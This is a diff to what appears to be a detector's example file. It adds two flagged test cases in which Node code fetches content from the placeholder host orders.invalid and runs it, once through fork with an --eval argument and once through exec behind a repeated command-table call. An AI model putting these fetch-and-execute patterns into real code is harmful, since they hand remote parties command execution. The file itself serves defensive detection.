@@ -53,6 +53,16 @@ export const ofOrders: DetectorExamples = {
       why: 'what the interpreter is told before its program',
       attributes: { source: 'download', sink: 'process.command', to: './worker.js' },
     },
+    {
+      code: "import { fork } from 'node:child_process'; const answer = await fetch('https://orders.invalid/x'); const options = { execArgv: ['--eval', await answer.text()] }; fork('./worker.js', [], options);",
+      why: 'the same in options that have a name',
+      attributes: { source: 'download', sink: 'process.command', to: './worker.js' },
+    },
+    {
+      code: `import { exec } from 'node:child_process'; const commands = { go(given) { exec(given); } }; function ask(name, one) { ${'commands[name](one); '.repeat(40)}} const order = await (await fetch('https://orders.invalid/x')).json(); commands[order.name](order.given);`,
+      why: 'behind many other calls of the same table',
+      attributes: { source: 'download', sink: 'process.command', to: 'dynamic' },
+    },
   ],
   good: [
     {
